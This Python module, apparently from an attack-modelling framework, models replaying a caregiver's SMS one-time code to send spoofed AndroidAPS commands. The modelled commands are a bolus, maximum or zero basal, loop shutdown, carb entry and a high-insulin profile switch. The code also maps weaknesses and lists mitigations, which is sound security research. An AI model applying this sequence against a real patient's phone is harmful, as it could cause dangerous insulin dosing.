"""Reuse a code by text message: send in a caregiver's name, and confirm with a code already used.

A text's sender is whatever the sender writes, and AndroidAPS takes a code again as long as it
lives: the current half minute's and the one before. What it gives is bounded by its own limits, and
remote boluses lie a quarter of an hour apart.
"""

from __future__ import annotations

from dataclasses import replace

from banting.attacks.app_sources import AAPS_CODE_REUSE, AAPS_SMS, CAREGIVER_HOLDS
from banting.attacks.cloud_aims import (
    Asked,
    asked_in_words,
    bolus,
    more_needs,
    text_basal,
    text_carbs,
)
from banting.attacks.cloud_talk import SMS
from banting.errors import TechniqueFailed
from banting.interfaces import Grip, Listen, Program, Transmit, Wait
from banting.schema.day import unix_ms
from banting.schema.facts import Fact, Rule, goal_fact
from banting.schema.intents import Heard, LogIn, RemoteBasal, RemoteLoop
from banting.schema.question import Goal
from banting.schema.verdict import TechniqueShown
from banting.units import MS_PER_MIN, MS_PER_S
from banting.wire.totp import secret_bytes, totp

__all__ = ["REUSE_SMS_CODE", "ReuseSmsCode"]

_ID = "reuse-sms-code"
_CODE = Fact("knows.sms-code")
_TAKES = Fact("aaps.takes-sms")
_NEEDS = frozenset({Fact("reach.internet"), Fact("knows.sms-number"), _CODE, _TAKES})
_LOOP_ON = Fact("phone.doses")
_NEXT_MS = 2 * MS_PER_S  # between texts where four must go out while one code lives
_GOALS: dict[str, tuple[Goal, frozenset[Fact], str]] = {  # rule's end -> its goal, needs, deed
    "G1": (Goal.G1, _NEEDS, "ask for a bolus"),
    "G2": (Goal.G2, _NEEDS, "stop the loop and ask for the highest temporary rate"),
    "G3": (Goal.G3, _NEEDS, "stop the loop and ask for a temporary rate of nothing"),
    "G4": (Goal.G4, _NEEDS | {_LOOP_ON}, "switch the loop off"),
    "carbs": (Goal.G5, _NEEDS | {_LOOP_ON}, "enter carbohydrate"),
    "profile-switch": (Goal.G5, _NEEDS | {_LOOP_ON}, "switch to a profile of far more insulin"),
}


class ReuseSmsCode:
    """Text messages under a number that may send commands."""

    shown = TechniqueShown(
        id=_ID,
        title="Reuse a code by text message",
        what="someone who saw a caregiver's text with its code sends another command in the same "
        "name, and the app takes the code again within its minute",
        stop_it="turn text-message commands off; else keep texts off locked screens, a long "
        "distance between remote boluses, and a low maximum bolus",
        cwe=("CWE-294", "CWE-290"),
        cve=(),
        emb3d=("TID-407", "TID-221"),
        attack_ics=("T0855", "T0859"),
        sources=(AAPS_CODE_REUSE, AAPS_SMS, CAREGIVER_HOLDS),
    )
    rules: tuple[Rule, ...] = (
        Rule(
            id="see-sms-code",
            technique=_ID,
            needs=frozenset(
                {
                    Fact("assume.sms-code-seen"),
                    Fact("caregiver.sends-sms"),
                    Fact("caregiver.holds-otp-secret"),
                    _TAKES,
                }
            ),
            gives=_CODE,
            says="see the code in a caregiver's text message",
        ),
        Rule(
            id="make-sms-code",
            technique=_ID,
            needs=frozenset(
                {
                    Fact("assume.caregiver-turned"),
                    Fact("caregiver.sends-sms"),
                    Fact("caregiver.holds-otp-secret"),
                }
            ),
            gives=_CODE,
            says="a caregiver's phone makes the codes, and the caregiver knows the PIN",
        ),
        *(
            Rule(
                id=f"reuse-sms-code-{end}",
                technique=_ID,
                needs=needs,
                gives=goal_fact(goal),
                says=f"{deed} in a caregiver's name, and confirm it with the code",
            )
            for end, (goal, needs, deed) in _GOALS.items()
        ),
    )

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """See or make a code; or ask for something and confirm it while the code lives."""
        if rule.id == "see-sms-code":
            return (yield from _see(grip))
        if rule.id == "make-sms-code":
            grip.knows("otp-secret")
            grip.knows("sms-pin")
            yield Wait(until_ms=grip.now_ms)
            return "whoever makes the codes has one at any time"
        grip.knows("sms-number")
        if "otp-secret" in grip.held:  # nothing hurries who can make codes
            yield Wait(until_ms=grip.strike_ms)
        if rule.gives == goal_fact(Goal.G4):
            yield from _send(grip, RemoteLoop(on=False))
            yield from _send(grip, LogIn())
            return "asked by text message and confirmed: the loop is off"
        wanted = _wanted(rule, grip)
        if isinstance(wanted, RemoteBasal):
            return (yield from _instead_of_loop(grip, wanted))
        yield from _send(grip, wanted)
        yield from _send(grip, LogIn())
        return f"asked by text message and confirmed: {asked_in_words(wanted)}"


def _wanted(rule: Rule, grip: Grip) -> Asked:
    match rule.id.removeprefix(f"{_ID}-"):
        case "G1":
            return bolus(grip)
        case "carbs":
            return text_carbs(grip)
        case "profile-switch":
            return more_needs()
        case end:
            return text_basal(grip, none=end == Goal.G3.name)


def _instead_of_loop(grip: Grip, wanted: RemoteBasal) -> Program:
    """Stop the loop, which would soon set a rate of its own, and let another run to its end."""
    yield from _send(grip, RemoteLoop(on=False), _NEXT_MS, may_be_refused=True)  # off already
    yield from _send(grip, LogIn(), _NEXT_MS, may_be_refused=True)
    yield from _send(grip, wanted, _NEXT_MS)
    yield from _send(grip, LogIn())
    ends_ms = min(grip.now_ms + wanted.minutes * MS_PER_MIN, grip.until_ms - MS_PER_MIN)
    yield Wait(until_ms=max(grip.now_ms, ends_ms))
    return f"stopped the loop by text message and confirmed: {asked_in_words(wanted)}"


def _see(grip: Grip) -> Program:
    """Wait until a caregiver's code comes by, and keep it."""
    service = grip.service(SMS)
    while True:
        frame = yield Listen(link=service.link, until_ms=grip.until_ms)
        if frame is None:
            raise TechniqueFailed("no text message with a code was seen")
        found = dict(service.secrets_in(frame.raw)).get("sms-code")
        if found is not None:
            grip.learn("sms-code", found)
            return "saw a code in a caregiver's text message"


def _send(
    grip: Grip,
    wanted: Asked | RemoteLoop | LogIn,
    wait_ms: int | None = None,
    *,
    may_be_refused: bool = False,
) -> Program:
    """Send one text; an answer goes to the number's owner, and is heard only by who sees it too.

    `wait_ms` is how long to wait for it, None for as long as one takes.
    """
    service = grip.service(SMS)
    held = {"sms-number": grip.knows("sms-number"), "sms-code": _code(grip)}
    exchange = service.ask(wanted, held, grip.now_ms)
    if wait_ms is not None:
        exchange = replace(exchange, wait_ms=wait_ms)
    answer = yield Transmit(link=service.link, exchange=exchange)
    if answer is None or may_be_refused:
        return "sent"
    if service.meaning(exchange, answer.raw) is Heard.REFUSED:
        raise TechniqueFailed(f"refused: {exchange.says}")
    return "sent"


def _code(grip: Grip) -> bytes:
    """Return a code that counts now: made from its secret, or the one that was seen."""
    if "otp-secret" in grip.held and "sms-pin" in grip.held:
        secret = secret_bytes(grip.knows("otp-secret").decode("ascii", "replace"))
        digits = totp(secret, unix_ms(grip.now_ms) // MS_PER_S)
        return digits.encode("ascii") + grip.knows("sms-pin")
    return grip.knows("sms-code")


REUSE_SMS_CODE = ReuseSmsCode()
